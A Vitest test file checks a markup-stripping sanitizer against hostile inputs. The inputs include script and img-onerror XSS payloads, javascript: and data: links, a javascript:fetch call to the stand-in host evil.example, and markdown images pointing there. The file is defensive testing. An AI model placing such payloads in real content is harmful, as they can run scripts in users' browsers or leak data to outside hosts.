import { expect, test } from 'vitest'
import { withoutMarkup } from './markup.ts'

test.each([
  ['See ![logo](https://evil.example/p.png) here', 'See logo here'],
  ['See ![][pic] here', 'See  here'],
  ['A <img src=x onerror=alert(1)> tag', 'A  tag'],
  ['A <script>alert(1)</script> tag', 'A alert(1) tag'],
  ['An open <iframe src="https://evil.example', 'An open '],
  ['<!-- hidden --> shown', ' shown'],
  ['[click](javascript:alert(1)) me', 'click me'],
  ['[click](javascript:fetch("//evil.example", f(2))) me', 'click me'],
  ['[click](javascript:alert(1 or not', 'click or not'],
  ['[click](data:text/html;base64,x) me', 'click me'],
  ['[pic]: https://evil.example/p.png', ''],
  [
    'Open [the page](https://shop.example/a) or <https://shop.example/b>.',
    'Open [the page](https://shop.example/a) or https://shop.example/b.',
  ],
  ['Is 3 < 5 and 7 > 5?', 'Is 3 < 5 and 7 > 5?'],
])('%s', (text, plain) => {
  expect(withoutMarkup(text)).toBe(plain)
})
